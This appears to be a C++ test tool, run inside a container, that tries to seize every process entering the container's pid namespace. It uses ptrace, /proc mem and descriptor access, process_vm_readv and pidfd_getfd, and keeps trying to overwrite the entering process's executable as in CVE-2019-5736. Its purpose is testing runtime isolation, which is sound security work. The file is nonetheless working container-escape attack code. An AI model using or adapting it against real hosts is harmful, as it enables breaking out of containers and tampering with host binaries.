// pry PAYLOAD: lays hold of every process that appears in its pid namespace, in all the ways there
// are, until that process executes PAYLOAD (a path without links). Prints what it got hold of
// before, a line each time; with SIGTERM at last how many processes there were. The executables it
// keeps, and tries to write to them for as long as it runs; "wrote" if it can.
//
// A test tool: it is the container that attacks what enters it (CVE-2016-9962, CVE-2019-5736).
#include <algorithm>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <fstream>
#include <string>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>
#include <vector>

namespace {

volatile sig_atomic_t ended = 0;

std::string in_proc(pid_t pid, const std::string& name) {
  return "/proc/" + std::to_string(pid) + "/" + name;
}

// Empty, and errno set, if it can't be read.
std::string link_of(const std::string& path) {
  char target[256];
  const ssize_t length = readlink(path.c_str(), target, sizeof target);
  return length < 0 ? "" : std::string(target, static_cast<std::size_t>(length));
}

// The files that processes were running, which can't be written to before they have ended.
class Executables {
 public:
  void keep(const std::string& path, const std::string& payload) {
    const int file = open(path.c_str(), O_PATH | O_CLOEXEC);
    if (file < 0 || files_.size() >= kMost || link_of(name_of(file)) == payload) {
      close(file);
    } else {
      files_.push_back(file);
    }
  }

  void overwrite() const {
    for (const int file : files_) {
      const int writable = open(name_of(file).c_str(), O_WRONLY | O_CLOEXEC);
      if (writable >= 0 && write(writable, "#!/bin/true\n", 12) > 0) std::puts("wrote");
      close(writable);
    }
  }

 private:
  static constexpr std::size_t kMost = 64;

  static std::string name_of(int file) { return "/proc/self/fd/" + std::to_string(file); }

  std::vector<int> files_;
};

enum class Stage { Before, Executed, Gone };

Stage stage_of(pid_t pid, const std::string& payload) {
  const std::string exe = link_of(in_proc(pid, "exe"));
  if (exe == payload) return Stage::Executed;
  return exe.empty() && (errno == ENOENT || errno == ESRCH) ? Stage::Gone : Stage::Before;
}

class Attack {
 public:
  Attack(pid_t pid, int pidfd, const std::string& payload)
      : pid_(pid), pidfd_(pidfd), payload_(payload) {}

  // Whether there is still something to attack.
  bool run() {
    reach_root();
    const std::string exe = link_of(in_proc(pid_, "exe"));
    if (!exe.empty()) got("exe " + exe);
    const std::string cwd = link_of(in_proc(pid_, "cwd"));
    if (!cwd.empty()) got("cwd " + cwd);
    list_descriptors();
    const int memory = open(in_proc(pid_, "mem").c_str(), O_RDWR | O_CLOEXEC);
    if (memory >= 0) got("mem");
    close(memory);
    read_memory();
    take_descriptors();
    if (ptrace(PTRACE_SEIZE, pid_, 0, 0) == 0) {
      got("ptrace");
      stop();
      // It could be made to do with these whatever it likes.
      got("rights " + rights());
      ptrace(PTRACE_DETACH, pid_, 0, 0);
    }
    return stage_of(pid_, payload_) == Stage::Before;
  }

 private:
  // Only if it is certain that the process had not executed the payload by then.
  void got(const std::string& what) {
    if (stage_of(pid_, payload_) == Stage::Before) std::printf("%s\n", what.c_str());
  }

  void reach_root() {
    struct stat theirs {};
    struct stat ours {};
    if (stat(in_proc(pid_, "root/").c_str(), &theirs) != 0 || stat("/", &ours) != 0) return;
    const bool same = theirs.st_dev == ours.st_dev && theirs.st_ino == ours.st_ino;
    got(same ? "root /" : "root OTHER");
  }

  void list_descriptors() {
    DIR* folder = opendir(in_proc(pid_, "fd").c_str());
    if (folder == nullptr) return;
    while (const dirent* entry = readdir(folder)) {
      if (entry->d_name[0] == '.') continue;
      const std::string target = link_of(in_proc(pid_, std::string("fd/") + entry->d_name));
      if (!target.empty()) got(std::string("fd ") + entry->d_name + " " + target);
    }
    closedir(folder);
  }

  // Who may not is told before it matters that nothing is at that address.
  void read_memory() {
    char byte = 0;
    iovec here{&byte, sizeof byte};
    iovec there{nullptr, sizeof byte};
    const ssize_t count = process_vm_readv(pid_, &here, 1, &there, 1, 0);
    if (count >= 0 || errno == EFAULT) got("process_vm_readv");
  }

  void take_descriptors() {
    for (int number = 0; number < 10; ++number) {
      const long taken = syscall(SYS_pidfd_getfd, pidfd_, number, 0);
      if (taken < 0) continue;
      got("pidfd_getfd");
      close(static_cast<int>(taken));
    }
  }

  // Only what stands still can be looked at, and let go.
  void stop() const {
    ptrace(PTRACE_INTERRUPT, pid_, 0, 0);
    waitpid(pid_, nullptr, __WALL);
  }

  // The capabilities that are permitted to it, and whether it is under a filter.
  std::string rights() const {
    std::ifstream status(in_proc(pid_, "status"));
    std::string all;
    for (std::string line; std::getline(status, line);) {
      std::replace(line.begin(), line.end(), '\t', ' ');
      if (line.starts_with("CapPrm:") || line.starts_with("Seccomp:")) all += line + " ";
    }
    return all;
  }

  pid_t pid_;
  int pidfd_;
  const std::string& payload_;
};

// The number that was given out last (proc_loadavg(5)).
class LatestPid {
 public:
  pid_t pid() const {
    char text[128]{};
    if (pread(file_, text, sizeof text - 1, 0) < 0) return 0;
    const char* last = std::strrchr(text, ' ');
    return last == nullptr ? 0 : std::atoi(last);
  }

 private:
  int file_ = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
};

}  // namespace

int main(int, char** arguments) {
  const std::string payload = arguments[1];
  struct sigaction action {};
  action.sa_handler = [](int) { ended = 1; };
  sigaction(SIGTERM, &action, nullptr);
  std::setvbuf(stdout, nullptr, _IOLBF, 0);
  const LatestPid latest;
  Executables executables;
  pid_t next = getpid() + 1;
  long seen = 0;
  std::puts("ready");
  while (ended == 0) {
    const int pidfd = static_cast<int>(syscall(SYS_pidfd_open, next, 0));
    if (pidfd < 0) {
      // It may have come and gone.
      next = std::max(next, latest.pid());
      continue;
    }
    executables.keep(in_proc(next, "exe"), payload);
    Attack attack(next, pidfd, payload);
    while (attack.run() && ended == 0) {
    }
    close(pidfd);
    executables.overwrite();
    ++next;
    ++seen;
  }
  std::printf("processes %ld\n", seen);
}
